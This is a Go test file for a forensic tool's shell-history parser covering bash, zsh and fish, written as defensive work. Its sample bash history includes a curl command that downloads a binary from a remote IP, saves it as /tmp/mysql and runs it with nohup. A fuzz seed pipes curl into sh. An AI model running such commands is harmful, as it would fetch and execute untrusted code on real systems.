package shellhistory

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/cordon-forensics/cordon/timeline"
)

var mtime = time.Date(2026, 3, 17, 9, 0, 0, 0, time.UTC)

func TestUserAndShell(t *testing.T) {
	for _, c := range []struct {
		path, user string
		shell      Shell
	}{
		{"/home/lxd/.bash_history", "lxd", Bash},
		{"/root/.bash_history", "root", Bash},
		{"/root/.zsh_history", "root", Zsh},
		{"/home/ann/.local/share/fish/fish_history", "ann", Fish},
		{"/home/.bash_history", "", Bash},
		{"/tmp/x", "", ""},
	} {
		if u := UserFor(c.path); u != c.user {
			t.Errorf("UserFor(%q) = %q, want %q", c.path, u, c.user)
		}
		if s := ShellFor(c.path); s != c.shell {
			t.Errorf("ShellFor(%q) = %q, want %q", c.path, s, c.shell)
		}
	}
}

type want struct {
	cmd     string
	t       time.Time
	line    int64
	derived string // substring of TimeDerivation
}

func check(t *testing.T, res timeline.Result, user string, wants []want) {
	t.Helper()
	if len(res.Events) != len(wants) {
		for _, e := range res.Events {
			t.Logf("event %q %v", e.Message, e.Timestamp)
		}
		t.Fatalf("got %d events, want %d", len(res.Events), len(wants))
	}
	for i, w := range wants {
		e := res.Events[i]
		if e.Message != w.cmd || e.Process.CommandLine != w.cmd || !e.Timestamp.Equal(w.t) || e.Cordon.Provenance.Line != w.line ||
			!strings.Contains(e.Cordon.TimeDerivation, w.derived) {
			t.Errorf("event %d: got %q %v line %d %q, want %+v", i, e.Message, e.Timestamp, e.Cordon.Provenance.Line, e.Cordon.TimeDerivation, w)
		}
		if e.User == nil || e.User.Name != user || e.Event.Dataset != Dataset || e.Event.Action != "command-run" {
			t.Errorf("event %d: user/dataset/action %+v %+v", i, e.User, e.Event)
		}
	}
}

func TestBashWithTimestamps(t *testing.T) {
	in := "ls -la\n" + // written before HISTTIMEFORMAT was set
		"#1773735960\n" +
		"cd /tmp\n" +
		"#1773735971\n" +
		"curl -fsSL http://203.0.113.7/x -o /tmp/mysql && chmod +x /tmp/mysql\n" +
		"nohup /tmp/mysql &\n" +
		"#notastamp\n" +
		"\n"
	o := timeline.Origin{Entry: "fs/home/lxd/.bash_history", ModTime: mtime}
	res := ParseBytes([]byte(in), o)
	check(t, res, "lxd", []want{
		{"ls -la", mtime, 1, "upper bound"},
		{"cd /tmp", time.Unix(1773735960, 0).UTC(), 3, "#<epoch>"},
		{"curl -fsSL http://203.0.113.7/x -o /tmp/mysql && chmod +x /tmp/mysql", time.Unix(1773735971, 0).UTC(), 5, "when the command was entered"},
		{"nohup /tmp/mysql &", time.Unix(1773735971, 0).UTC(), 6, "at or after"},
		{"#notastamp", time.Unix(1773735971, 0).UTC(), 7, "at or after"},
	})
	if res.Events[3].Process.Name != "mysql" {
		t.Errorf("process.name of nohup line = %q", res.Events[3].Process.Name)
	}
	if res.Events[0].Cordon.TimeMeaning == timeline.MeaningCommand {
		t.Errorf("an mtime-bounded time must not claim to be the exact command time")
	}
	if res.Events[2].Labels["history_index"] != "3" {
		t.Errorf("history_index = %q", res.Events[2].Labels["history_index"])
	}
	if len(res.Warnings) != 0 {
		t.Errorf("warnings: %+v", res.Warnings)
	}
}

func TestBashWithoutMtime(t *testing.T) {
	res := ParseBytes([]byte("id\nwhoami\n"), timeline.Origin{Entry: "fs/root/.bash_history"})
	check(t, res, "root", []want{{"id", time.Time{}, 1, "not known"}, {"whoami", time.Time{}, 2, "not known"}})
	if len(res.Warnings) != 1 || !strings.Contains(res.Warnings[0].Message, "mtime is unknown") {
		t.Errorf("warnings: %+v", res.Warnings)
	}
}

func TestZshExtended(t *testing.T) {
	in := []byte(": 1773735960:0;sudo docker ps\n" +
		": 1773735971:12;for i in 1 2; do\\\n  echo $i\\\ndone\n" +
		"plain command\n" +
		": garbage:x;odd\n")
	// a metafied byte: "é" is C3 A9; zsh writes A9 as 83 89 (A9 xor 20)
	in = append(in, []byte(": 1773735999:1;echo caf\xc3\x83\x89\n")...)
	o := timeline.Origin{Entry: "fs/home/ann/.zsh_history", ModTime: mtime}
	res := ParseBytes(in, o)
	check(t, res, "ann", []want{
		{"sudo docker ps", time.Unix(1773735960, 0).UTC(), 1, "zsh extended"},
		{"for i in 1 2; do\n  echo $i\ndone", time.Unix(1773735971, 0).UTC(), 2, "zsh extended"},
		{"plain command", mtime, 5, "upper bound"},
		{": garbage:x;odd", mtime, 6, "upper bound"},
		{"echo café", time.Unix(1773735999, 0).UTC(), 7, "zsh extended"},
	})
	if res.Events[1].Labels["elapsed_seconds"] != "12" || res.Events[0].Process.Name != "docker" {
		t.Errorf("labels %v name %q", res.Events[1].Labels, res.Events[0].Process.Name)
	}
	if len(res.Warnings) != 1 || res.Warnings[0].Line != 6 {
		t.Errorf("warnings: %+v", res.Warnings)
	}
}

func TestFish(t *testing.T) {
	in := "- cmd: echo a\\nb\n  when: 1773735960\n  paths:\n    - /tmp\n- cmd: ls\n  when: 1773735961\nbogus\n"
	res := ParseBytes([]byte(in), timeline.Origin{Entry: "fs/home/ann/.local/share/fish/fish_history", ModTime: mtime})
	check(t, res, "ann", []want{
		{"echo a\nb", time.Unix(1773735960, 0).UTC(), 1, "fish"},
		{"ls", time.Unix(1773735961, 0).UTC(), 5, "fish"},
	})
	if len(res.Warnings) != 1 || res.Warnings[0].Line != 7 {
		t.Errorf("warnings: %+v", res.Warnings)
	}
}

func TestInvalidUTF8AndLongLine(t *testing.T) {
	var in bytes.Buffer
	in.WriteString("echo \xff\xfe\n")
	in.Write(bytes.Repeat([]byte("a"), MaxLine+1))
	in.WriteString("\nafter\n")
	res := ParseBytes(in.Bytes(), timeline.Origin{Entry: "fs/root/.bash_history", ModTime: mtime})
	check(t, res, "root", []want{{`echo \xff\xfe`, mtime, 1, "upper bound"}, {"after", mtime, 3, "upper bound"}})
	if len(res.Warnings) != 1 || res.Warnings[0].Line != 2 {
		t.Errorf("warnings: %+v", res.Warnings)
	}
}

func TestGarbage(t *testing.T) {
	garbage := make([]byte, 64<<10)
	for i := range garbage {
		garbage[i] = byte(i*7919 + i>>3)
		if i%5000 == 4999 {
			copy(garbage[i:], bytes.Repeat([]byte{'x'}, 1))
		}
	}
	// a newline-free blob over the bound is a warning, not a command
	big := bytes.Repeat([]byte{0x83, 0xff, '\\'}, MaxLine)
	for _, path := range []string{"fs/root/.bash_history", "fs/root/.zsh_history", "fs/root/.local/share/fish/fish_history"} {
		res := ParseBytes(big, timeline.Origin{Entry: path, ModTime: mtime})
		if len(res.Warnings) == 0 || len(res.Events) != 0 {
			t.Errorf("%s: %d warnings %d events", path, len(res.Warnings), len(res.Events))
		}
		_ = ParseBytes(garbage, timeline.Origin{Entry: path, ModTime: mtime}) // must not panic
	}
	res := ParseBytes(garbage, timeline.Origin{Entry: "fs/root/.local/share/fish/fish_history"})
	if len(res.Warnings) == 0 {
		t.Error("garbage as fish history gave no warning")
	}
}

func FuzzParse(f *testing.F) {
	f.Add([]byte("#1773735960\nls\n"), uint8(0))
	// the multi-line forms of plaso's bash_history and of bashsyntax.go
	f.Add([]byte("#1623364236\nbinary argument1 \"--params=\\\nparam1=foo,\nparam2=bar\n\" argument2\n"), uint8(0))
	f.Add([]byte("cat <<-'END' | sh\n\tcurl x | sh\n\tEND\necho $'it\\'s\nx'\ncat <<< 'x'\n"), uint8(0))
	f.Add([]byte(": 1458993293:0;echo dfgdfg \\\\\n& touch /tmp/afile\n"), uint8(1))
	paths := []string{"fs/root/.bash_history", "fs/home/a/.zsh_history", "fs/home/a/.local/share/fish/fish_history"}
	f.Fuzz(func(t *testing.T, b []byte, which uint8) {
		o := timeline.Origin{Entry: paths[int(which)%len(paths)], ModTime: mtime}
		res := ParseBytes(b, o)
		for _, e := range res.Events {
			if e.Process == nil || len(e.Process.CommandLine) > MaxCommand+MaxLine {
				t.Fatalf("bad event %+v", e)
			}
		}
	})
}
